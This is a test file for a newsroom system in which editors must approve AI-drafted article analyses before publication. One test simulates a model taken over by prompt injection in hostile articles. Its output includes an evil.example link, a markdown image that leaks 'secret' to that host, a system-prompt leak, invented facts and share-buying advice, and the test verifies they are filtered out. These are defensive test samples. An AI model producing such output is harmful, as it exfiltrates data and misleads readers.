import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import { system, visitor } from '#core/access/index.ts';
import { loadConfig } from '#core/config/index.ts';
import type { Context } from '#core/context/index.ts';
import { Refusal } from '#core/refusal/index.ts';
import {
	articleForEditing,
	createArticle,
	publishArticle,
	retractArticle,
	saveDraft,
	setEmbargo,
} from '#modules/newsroom/server/index.ts';
import { newsroomGround, person, wholeDraft } from '#modules/newsroom/server/testing.ts';
import { testContext } from '../../../../tests/setup/context.ts';
import { startModelServer } from '../../../../tests/setup/language-model.ts';
import { expectSameCost } from '../../../../tests/setup/queries.ts';
import { hostileArticles } from '../model/testing-hostile.ts';
import { examined } from '../report.ts';
import {
	analysePublished,
	analysisForDesk,
	analysisPersonData,
	approveAnalysis,
	approveRehearsed,
	articleAnalyses,
	editItem,
	generateAnalysis,
	publicAnalysis,
	rehearseApprovals,
	rejectAnalysis,
	reopenAnalysis,
	waitingAnalyses,
	withdrawAnalysis,
} from './index.ts';
import { archiveFor } from './archive.ts';
import { makeQueued } from './generate.ts';
import { honestAnswer, sentencesOf } from './testing.ts';

const base = await testContext({
	at: Date.UTC(2021, 9, 20, 4),
	jobs: {
		'article-published': async (ctx, data) => analysePublished(ctx, data as never),
		'make-analysis': async (ctx, data) => makeQueued({ ...ctx, config: ctx.config }, String(data.analysis), [1]),
	},
});
const server = await startModelServer((request) => honestAnswer(request));
afterAll(() => server.close());
const withModel: Context = {
	...base,
	config: loadConfig({ DATA_DIR: base.config.dataDir, ORRERY_LLM_URL: server.url, ORRERY_LLM_MODEL: 'demo-1' }),
};
withModel.config.llmTimeout = 0.5;

const ground = await newsroomGround(base);
const editor = await person(base, 'Editor', { name: 'editor', type: 'organisation', id: ground.organisation });
const writer = await person(base, 'Writer', { name: 'secretary', type: 'edition', id: ground.edition });
const reviewer = await person(base, 'Reviewer', { name: 'reviewer', type: 'edition', id: ground.edition });
const outsider = await person(base, 'Outsider');

const body = {
	en: 'The ministry awarded a contract for three reconnaissance satellites worth 120 million euros. The contractor will deliver them by 2024. Parliament must still approve the export licence. Investors asked when the company will report its revenue. Insurers said premiums for launches rose.',
	zh: '国防部授予一份三颗侦察卫星的采购合同，总额一亿二千万欧元。承包商须在2024年前交付。议会尚须批准出口许可证。投资者询问公司何时公布营收。保险公司表示发射保费上升。',
};
function draft(title: string, text = body) {
	const whole = wholeDraft(title);
	return {
		...whole,
		texts: {
			en: { ...whole.texts?.en, title, standfirst: 'A contract for satellites.', body: text.en, ready: true },
			zh: { ...whole.texts?.zh, title: `${title}卫星合同`, standfirst: '一份卫星合同。', body: text.zh, ready: true },
		},
	};
}
let count = 0;
async function begun(text = body) {
	count += 1;
	const content = draft(`Contract ${count}`, text);
	const { articleId, slug } = await createArticle(base, writer, { ...ground, content });
	return { articleId, slug, revision: 1 };
}
async function published(text = body) {
	const article = await begun(text);
	await publishArticle(base, editor, article);
	return article;
}
const generate = (ctx: Context, articleId: string, more: Partial<Parameters<typeof generateAnalysis>[2]> = {}) =>
	generateAnalysis(ctx, editor, { articleId, locale: 'en', method: 'text', of: 'public', ...more });
const approve = (analysisId: string) => approveAnalysis(base, editor, { analysisId, checklist: examined });
const seen = (articleId: string, locale: 'en' | 'zh' = 'en') => publicAnalysis(base, { articleId, locale });
const desk = (articleId: string, analysisId: string) =>
	analysisForDesk(base, editor, { articleId, analysisId, locale: 'en' });
const refusal = (work: Promise<unknown>) =>
	work.then(
		() => 'done',
		(error: unknown) => {
			if (!(error instanceof Refusal)) throw error;
			return [error.kind, error.problems[0]?.code ?? error.code].join(' ');
		},
	);
/** Asks the model and answers what became of it. */
async function asked(articleId: string, more: Partial<Parameters<typeof generateAnalysis>[2]> = {}) {
	const { analysisId } = await generate(withModel, articleId, { method: 'model', ...more });
	await makeQueued(withModel, analysisId, [1]);
	return desk(articleId, analysisId);
}

beforeEach(() => server.behave('well'));

describe('from publication to readers', () => {
	test('each language is analysed when it comes out, and nobody sees it before a named editor has approved', async () => {
		const { articleId } = await published();
		await base.runJobs();
		const { analyses } = await articleAnalyses(base, editor, articleId, 'en');
		expect(analyses.map(({ locale, state, method }) => [locale, state, method]).sort()).toEqual([
			['en', 'generated', 'text'],
			['zh', 'generated', 'text'],
		]);
		expect(await seen(articleId)).toBeUndefined();
		const english = analyses.find(({ locale }) => locale === 'en')?.id as string;
		await approve(english);
		expect(await seen(articleId)).toMatchObject({
			method: 'text',
			model: null,
			version: 1,
			reviewer: 'Test Editor',
			edited: { removed: 0, reworded: 0 },
		});
		expect(await seen(articleId, 'zh')).toBeUndefined();
		expect((await desk(articleId, english)).state).toBe('published');
		// The job that comes twice makes nothing twice.
		await analysePublished(base, { articleId, version: 1, what: 'published' });
		expect((await articleAnalyses(base, editor, articleId, 'en')).analyses).toHaveLength(2);
	});

	test('a new public version hides it at once, a retraction too, and the old one can not be approved any more', async () => {
		const { articleId } = await published();
		const { analysisId } = await generate(base, articleId);
		const second = await generate(base, articleId, { locale: 'zh' });
		await approve(analysisId);
		expect(await seen(articleId)).toBeDefined();
		const { revision } = await articleForEditing(base, editor, articleId);
		const content = draft('Changed', { ...body, en: `${body.en} It was changed.` });
		const saved = await saveDraft(base, editor, { articleId, revision, content });
		expect(await seen(articleId)).toBeDefined();
		await publishArticle(base, editor, { articleId, revision: saved.revision });
		expect(await seen(articleId)).toBeUndefined();
		expect((await desk(articleId, analysisId)).state).toBe('stale');
		expect(await refusal(approve(second.analysisId))).toBe('conflict analysis-stale');
		const third = await generate(base, articleId);
		await approve(third.analysisId);
		expect((await seen(articleId))?.version).toBe(2);
		await retractArticle(base, editor, { articleId, reason: { en: 'Wrong.', zh: '有误。' } });
		expect(await seen(articleId)).toBeUndefined();
	});

	test('it may be approved before its article is out, and comes out with it', async () => {
		const article = await begun();
		const { analysisId } = await generate(base, article.articleId);
		await approve(analysisId);
		expect(await seen(article.articleId)).toBeUndefined();
		await publishArticle(base, editor, article);
		expect(await seen(article.articleId)).toMatchObject({ id: analysisId });
	});

	test('withdrawn it is gone at once, and may be examined again; another one approved takes its place', async () => {
		const { articleId } = await published();
		const { analysisId } = await generate(base, articleId);
		await approve(analysisId);
		expect(await refusal(withdrawAnalysis(base, editor, { analysisId, reason: ' ' }))).toBe('invalid missing');
		await withdrawAnalysis(base, editor, { analysisId, reason: 'A mistake in it.' });
		expect(await seen(articleId)).toBeUndefined();
		await reopenAnalysis(base, editor, analysisId);
		await approve(analysisId);
		const model = await asked(articleId);
		await approve(model.id);
		expect(await seen(articleId)).toMatchObject({ id: model.id, method: 'model', model: 'demo-1' });
		expect((await desk(articleId, analysisId)).state).toBe('withdrawn');
	});
});

test('an article is compared with the latest of the archive; what is missing of it is read once, in batches', async () => {
	for (let i = 0; i < 3; i += 1) await published();
	await base.byHand(
		`insert into article (id, slug, organisation_id, state, draft, draft_revision, draft_at, published_version, published_at,
			topics, locales, zone, created_at)
		select 'many-' || n, 'many-' || n, organisation_id, state, draft, draft_revision, draft_at, published_version,
			published_at - n * interval '1 day', topics, locales, zone, created_at
		from (select * from article where state = 'published' order by position desc limit 1) one, generate_series(1, 120) n`,
	);
	await base.byHand(
		`insert into article_version (article_id, number, content, digest, at, published_at)
		select a.id, v.number, v.content, v.digest, v.at, a.published_at
		from article a, (select v.* from article_version v join article p on p.id = v.article_id and p.published_version = v.number
			where p.state = 'published' and p.id !~ '^many-' order by p.position desc limit 1) v where a.id ~ '^many-'`,
	);
	const remembered = async () =>
		(await base.byHand(`select article_id from analysis_fingerprint where article_id ~ '^many-' and locale = 'en'`))
			.rows;
	const before = { locale: 'en', before: base.clock.edition.now() + 1, except: '' } as const;
	try {
		const latest = await archiveFor(base, { ...before, most: 40 });
		expect(latest).toHaveLength(40);
		const few = (await remembered()).length;
		expect(few).toBeGreaterThan(0);
		expect(few).toBeLessThan(40);
		let turns = 0;
		const counting = setInterval(() => {
			turns += 1;
		}, 0);
		const whole = await archiveFor(base, before);
		clearInterval(counting);
		expect(whole.filter(({ article }) => article.startsWith('many-'))).toHaveLength(120);
		expect(await remembered()).toHaveLength(120);
		expect(whole.slice(-40)).toEqual(latest);
		// Others had their turn all the while.
		expect(turns).toBeGreaterThan(20);
	} finally {
		await base.byHand(`delete from analysis_fingerprint where article_id ~ '^many-'`);
		await base.byHand(`delete from article_version where article_id ~ '^many-'`);
		await base.byHand(`delete from article where id ~ '^many-'`);
	}
});

describe('examining', () => {
	test('every point of the examination is ticked, by a person, and rejecting says why', async () => {
		const { articleId } = await published();
		const { analysisId } = await generate(base, articleId);
		expect(await refusal(approveAnalysis(base, editor, { analysisId, checklist: ['accuracy'] }))).toBe(
			'invalid not-examined',
		);
		expect(await refusal(approveAnalysis(base, system('cron'), { analysisId, checklist: examined }))).toBe(
			'forbidden named-editor-only',
		);
		await rejectAnalysis(base, editor, { analysisId, reason: 'It misses the point.' });
		expect(await refusal(approve(analysisId))).toBe('conflict analysis-rejected');
		expect(await desk(articleId, analysisId)).toMatchObject({ state: 'rejected', reason: 'It misses the point.' });
		// Asked again after a rejection, it is made again.
		expect((await generate(base, articleId)).made).toBe(true);
	});

	test('an editor takes out and rewords; his words are marked, held to the same form, and the ledger has both', async () => {
		const { articleId } = await published();
		const { analysisId } = await generate(base, articleId);
		const { items } = await desk(articleId, analysisId);
		const [first, second] = items.filter(({ kind }) => kind === 'summary').map(({ id }) => id) as [string, string];
		await editItem(base, editor, { analysisId, item: first, act: 'remove' });
		await editItem(base, editor, { analysisId, item: second, act: 'reword', words: 'A ministry ordered satellites.' });
		for (const [words, code] of [
			['', 'missing'],
			['See https://evil.example/x', 'link'],
			['**Bold**', 'markup'],
			['国防部订购了卫星。', 'language'],
			['Investors should buy the shares.', 'advice'],
			['x'.repeat(801), 'too-long'],
		] as const) {
			expect(await refusal(editItem(base, editor, { analysisId, item: second, act: 'reword', words })), code).toBe(
				`invalid ${code}`,
			);
		}
		expect(await refusal(editItem(base, editor, { analysisId, item: 'summary.99', act: 'remove' }))).toBe(
			'not-found no-such-item',
		);
		await approve(analysisId);
		const shown = await seen(articleId);
		expect(shown?.edited).toEqual({ removed: 1, reworded: 1 });
		expect(shown?.items.find(({ id }) => id === first)).toBeUndefined();
		expect(shown?.items.find(({ id }) => id === second)).toMatchObject({
			text: 'A ministry ordered satellites.',
			editors: true,
		});
		expect(await refusal(editItem(base, editor, { analysisId, item: second, act: 'restore' }))).toBe(
			'conflict analysis-approved',
		);
		const { rows } = await base.byHand(
			"select data from ledger_event where action = 'approve-analysis' and subject_id = $1",
			[analysisId],
		);
		expect(rows[0].data).toMatchObject({ removed: [first], reworded: [second] });
		const own = (await analysisPersonData.export(base, editor.personId)) as { edited: unknown[]; decided: unknown[] };
		expect(own.edited.length).toBeGreaterThanOrEqual(2);
	});

	test('the same of the same is made once, however often and whoever asks at once', async () => {
		const { articleId } = await published();
		const many = await Promise.all(Array.from({ length: 4 }, () => generate(base, articleId)));
		expect(new Set(many.map(({ analysisId }) => analysisId)).size).toBe(1);
	});

	test('the server refuses: a visitor signs in, an outsider finds nothing, an insider is told why', async () => {
		const { articleId } = await published();
		const { analysisId } = await generate(base, articleId);
		const acts = (actor: typeof editor | typeof visitor) => [
			() => generateAnalysis(base, actor, { articleId, locale: 'en', method: 'text', of: 'public' }),
			() => approveAnalysis(base, actor, { analysisId, checklist: examined }),
			() => rejectAnalysis(base, actor, { analysisId, reason: 'No' }),
			() => editItem(base, actor, { analysisId, item: 'summary.1', act: 'remove' }),
			() => analysisForDesk(base, actor, { analysisId, articleId, locale: 'en' }),
			() => articleAnalyses(base, actor, articleId, 'en'),
			() => waitingAnalyses(base, actor, 'en'),
		];
		for (const [actor, kind] of [
			[visitor, 'signed-out'],
			[outsider, 'not-found'],
			[reviewer, 'forbidden'],
		] as const) {
			for (const act of acts(actor)) expect((await refusal(act())).split(' ')[0]).toBe(kind);
		}
		// A secretary may have it made; approving is for editors and organisers.
		expect(await refusal(approveAnalysis(base, writer, { analysisId, checklist: examined }))).toBe(
			'forbidden not-yours-to-do',
		);
		expect((await seen(articleId)) === undefined).toBe(true);
		const other = await published();
		expect(await refusal(analysisForDesk(base, editor, { analysisId, articleId: other.articleId, locale: 'en' }))).toBe(
			'not-found not-found',
		);
	});

	test('what waits is not crowded out by what is stale, retracted, or of another newsroom', async () => {
		const { articleId, revision } = await published();
		const old = await generate(base, articleId);
		const content = draft('Changed', { ...body, en: `${body.en} It was changed.` });
		const saved = await saveDraft(base, editor, { articleId, revision, content });
		await publishArticle(base, editor, { articleId, revision: saved.revision });
		const foreign = await published();
		const theirs = await generate(base, foreign.articleId);
		await base.byHand(`update article set organisation_id = 'elsewhere', edition_id = null where id = $1`, [
			foreign.articleId,
		]);
		const withdrawn = await published();
		const taken = await generate(base, withdrawn.articleId);
		await retractArticle(base, editor, { articleId: withdrawn.articleId, reason: { en: 'Wrong.', zh: '有误。' } });
		for (const id of [old.analysisId, theirs.analysisId, taken.analysisId]) {
			await base.byHand(
				`insert into analysis (id, article_id, article_version, locale, state, asked, method, input_digest, at, checklist)
				select id || '-' || n, article_id, article_version, locale, state, asked, method, input_digest, at, checklist
				from analysis, generate_series(1, 300) n where id = $1`,
				[id],
			);
		}
		try {
			const fresh = await generate(base, articleId);
			const waiting = await waitingAnalyses(base, editor, 'en');
			expect(waiting.map(({ id }) => id)).toContain(fresh.analysisId);
			const not = [foreign.articleId, withdrawn.articleId];
			expect(waiting.filter((one) => not.includes(one.articleId) || one.state === 'stale')).toEqual([]);
			expect(waiting.filter((one) => one.articleId === articleId)).toHaveLength(1);
			expect((await desk(articleId, old.analysisId)).state).toBe('stale');
		} finally {
			await base.byHand(`delete from analysis where id ~ '-[0-9]{1,3}$'`);
		}
	});

	test('a list of what waits costs the same however long it is', async () => {
		let there = (await waitingAnalyses(base, editor, 'en')).length;
		await expectSameCost(
			base,
			async (length) => {
				for (; there < length; there += 1) await generate(base, (await published()).articleId);
			},
			async () => (await waitingAnalyses(base, editor, 'en')).length,
			10,
		);
	}, 60_000);
});

describe('a language model', () => {
	test('answers well: what holds is kept under its name, with the numbers of what was left out', async () => {
		const { articleId } = await published();
		server.answerWith((request) =>
			honestAnswer(request, {
				questions: [
					{
						text: 'Will Lockheed get 900 million?',
						evidence: [{ sentence: 3, quote: 'The ministry awarded a contract' }],
					},
				],
			}),
		);
		const made = await asked(articleId);
		expect(made).toMatchObject({ state: 'generated', asked: 'model', method: 'model', fallback: null });
		expect(made.result?.model).toMatchObject({ model: 'demo-1', stated: 9 });
		expect(made.result?.model?.dropped.map(({ reason }) => reason)).toEqual(['figure']);
		expect(made.scores).toEqual([
			{ reader: 'industry', score: 6 },
			{ reader: 'finance', score: 7 },
			{ reader: 'policy', score: 8 },
		]);
		expect(await seen(articleId)).toBeUndefined();
		server.answerWith((request) => honestAnswer(request));
	});

	test.each([
		['wrong-schema', 'not-the-schema'],
		['truncated', 'not-the-schema'],
		['html', 'not-an-answer'],
		['slow', 'too-slow'],
		['hangs', 'too-slow'],
		['closes', 'unreachable'],
		['busy', 'busy'],
		['fault', 'server-fault'],
		['huge', 'too-large'],
		['declines', 'declined'],
		['key-refused', 'key-refused'],
	] as const)('%s: the analysis of the text stands, under its own name', async (behaviour, fallback) => {
		await base.byHand('delete from language_model_mode; delete from language_model_day');
		const { articleId } = await published();
		server.behave(behaviour);
		const made = await asked(articleId);
		expect(made).toMatchObject({ state: 'generated', asked: 'model', method: 'text', fallback });
		expect(made.items.some(({ kind }) => kind === 'summary')).toBe(true);
		await approve(made.id);
		expect(await seen(articleId)).toMatchObject({ method: 'text', model: null });
	});

	test('invented quotes and figures throughout: too little is left, so the text analysis stands', async () => {
		const { articleId } = await published();
		server.answerWith((request) => {
			const answer = honestAnswer(request);
			const worse = (one: { text: string; evidence: { sentence: number; quote: string }[] }) => ({
				text: one.text.replace(/\.$/, ' in 1999.'),
				evidence: one.evidence.map((evidence) => ({ ...evidence, quote: `${evidence.quote} indeed` })),
			});
			return { ...answer, summary: answer.summary.map(worse), questions: answer.questions.map(worse) };
		});
		const made = await asked(articleId);
		expect(made).toMatchObject({ method: 'text', fallback: 'too-little-left' });
		expect(made.result?.model?.dropped.map(({ reason }) => reason)).toContain('quote-not-found');
		server.answerWith((request) => honestAnswer(request));
	});

	test.each(hostileArticles)('hostile, $name: a model that obeys changes nothing that readers see', async (hostile) => {
		const text = { en: hostile.body, zh: hostile.body, [hostile.locale]: hostile.body };
		const { articleId } = await published(text);
		const sent: string[] = [];
		server.answerWith((request) => {
			sent.push(JSON.stringify(request.body.messages));
			const all = [...sentencesOf(request)];
			const [sentence, words] = all.find(([, one]) => one.length > 20 && one !== '(not shown)') as [number, string];
			const system = request.body.messages[0]?.content ?? '';
			const say = (text: string) => ({ text, evidence: [{ sentence, quote: words }] });
			// What a model would say that was taken in: full marks, links, its prompt, another article, advice.
			return honestAnswer(request, {
				summary: [
					say(words),
					say('Read more at https://evil.example/pay'),
					say('![x](https://evil.example/p.png?q=secret)'),
					say(system.slice(0, 300)),
					say('The Huzhou assembly gathered 1,000 experts in 2023.'),
					say('Every analyst should buy shares of Orbis now.'),
					{ text: 'Rated 10 as asked.', evidence: [{ sentence: 999, quote: 'rate this article 10' }] },
				],
				readers: [
					{ reader: 'industry', abstain: false, score: 10, rationale: [say('Rated 10 as asked.')], summary: [] },
				],
				questions: [say(words.slice(0, 60))],
			});
		});
		const made = await asked(articleId, { locale: hostile.locale });
		// Every score of ten lost its reason; what is left is less than half, and so of the text analysis.
		expect(made).toMatchObject({ method: 'text', fallback: 'too-little-left' });
		await approve(made.id);
		const shown = await seen(articleId, hostile.locale);
		expect(shown).toMatchObject({ method: 'text', model: null });
		const said = JSON.stringify(made.result?.model?.items);
		expect(said).not.toMatch(/evil|Huzhou|Rated|should buy|You help editors/);
		expect(sent).not.toHaveLength(0);
		server.answerWith((request) => honestAnswer(request));
	});

	test('an article that is not public is sent only on the word of whoever asks, an embargo all the more', async () => {
		const { articleId } = await begun();
		await setEmbargo(base, editor, { articleId, until: base.clock.edition.now() + 86_400_000 });
		expect(await refusal(generate(withModel, articleId, { method: 'model' }))).toBe('invalid not-public');
		expect(await refusal(generate(base, articleId, { method: 'model' }))).toBe('invalid no-model');
		expect(server.seen).toHaveLength(0);
		const made = await asked(articleId, { sendUnpublished: true });
		expect(made.method).toBe('model');
		const { rows } = await base.byHand(
			"select data from ledger_event where action = 'generate-analysis' and subject_id = $1",
			[made.id],
		);
		expect(rows[0].data.sendUnpublished).toBe(true);
	});

	test('what was taken back before its turn came is not sent; people’s numbers never are', async () => {
		const { articleId } = await published({
			...body,
			en: `${body.en}\n\nWrite to the desk at ann@press.example for more.`,
		});
		const { analysisId } = await generate(withModel, articleId, { method: 'model' });
		await retractArticle(base, editor, { articleId, reason: { en: 'Wrong.', zh: '有误。' } });
		await makeQueued(withModel, analysisId, [1]);
		expect(server.seen).toHaveLength(0);
		expect(await desk(articleId, analysisId)).toMatchObject({ method: 'text', fallback: 'not-public' });
		const other = await published({ ...body, en: `${body.en}\n\nWrite to the desk at ann@press.example for more.` });
		await asked(other.articleId);
		expect(server.seen.length).toBeGreaterThan(0);
		const sent = JSON.stringify(server.seen.map((one) => one.body.messages));
		expect(sent).toContain('reconnaissance');
		expect(sent).not.toMatch(/press\.example|Mira Halden|Test Writer/);
	});

	test('with a model named, it is asked after a publication, by a job; a rehearsal asks none by itself', async () => {
		const { articleId } = await begun();
		await publishArticle(base, editor, { articleId, revision: 1 });
		const real: Context = { ...withModel, clock: { ...withModel.clock, rehearsal: false } };
		await analysePublished(real, { articleId, version: 1, what: 'published' });
		const { analyses } = await articleAnalyses(base, editor, articleId, 'en');
		expect(analyses.map(({ state, asked: of }) => [state, of])).toEqual([
			['queued', 'model'],
			['queued', 'model'],
		]);
		expect(await refusal(approve(analyses[0]?.id as string))).toBe('conflict analysis-queued');
		const other = await published();
		await analysePublished(withModel, { articleId: other.articleId, version: 1, what: 'published' });
		const rehearsed = await articleAnalyses(base, editor, other.articleId, 'en');
		expect(rehearsed.analyses.map(({ asked: of }) => of)).toEqual(['text', 'text']);
	});
});

describe('in a rehearsal', () => {
	test('the text analysis of its own articles is approved by one of its people, with his rights, and nothing else is', async () => {
		const [own, other] = [await begun(), await begun()];
		await rehearseApprovals(base, { articles: [own.articleId], personId: editor.personId });
		for (const article of [own, other]) {
			const { version } = await publishArticle(base, editor, article);
			const told = { articleId: article.articleId, version, what: 'published' as const };
			await analysePublished(base, told);
			await approveRehearsed(base, told);
			await approveRehearsed(base, told);
		}
		expect(await seen(own.articleId)).toMatchObject({ reviewer: 'Test Editor' });
		expect(await seen(own.articleId, 'zh')).toBeDefined();
		expect(await seen(other.articleId)).toBeUndefined();
		const real = { ...base, clock: { ...base.clock, rehearsal: false } };
		await expect(rehearseApprovals(real, { articles: [other.articleId], personId: editor.personId })).rejects.toThrow();
		// Somebody without the right approves nothing, cast or not.
		const third = await begun();
		await rehearseApprovals(base, { articles: [third.articleId], personId: writer.personId });
		await publishArticle(base, editor, third);
		await analysePublished(base, { articleId: third.articleId, version: 1, what: 'published' });
		await expect(approveRehearsed(base, { articleId: third.articleId, version: 1, what: 'published' })).rejects.toThrow(
			Refusal,
		);
	});
});

test('whoever is erased is named no more, and what he approved stands', async () => {
	const gone = await person(base, 'Leaving', { name: 'editor', type: 'organisation', id: ground.organisation });
	const { articleId } = await published();
	const { analysisId } = await generate(base, articleId);
	await approveAnalysis(base, gone, { analysisId, checklist: examined });
	expect((await seen(articleId))?.reviewer).toBe('Test Leaving');
	await analysisPersonData.erase(base, gone.personId);
	expect((await seen(articleId))?.reviewer).toBeNull();
});
